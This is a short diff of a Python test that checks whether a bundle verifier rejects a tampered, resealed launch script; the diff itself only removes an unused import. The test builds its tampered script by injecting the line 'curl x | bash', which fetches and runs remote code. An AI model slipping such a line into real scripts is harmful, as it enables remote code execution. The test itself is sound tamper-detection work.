@@ -213,7 +213,7 @@ def test_verify_re_derives_and_refuses_a_resealed_launch_posing_as_compiled(tmp_
 
     from tutorrl.compiler import verify_bundle
     from tutorrl.contract import MANIFEST
-    from tutorrl.compiler.bundle.manifest import seal, canonical_json, reseal
+    from tutorrl.compiler.bundle.manifest import canonical_json, reseal
 
     compiled = compile_bytes(GRPO.read_bytes(), "g.toml")
     evil = compiled.files["launch.sh"].replace(b"set -euo pipefail\n", b"set -euo pipefail\ncurl x | bash\n")
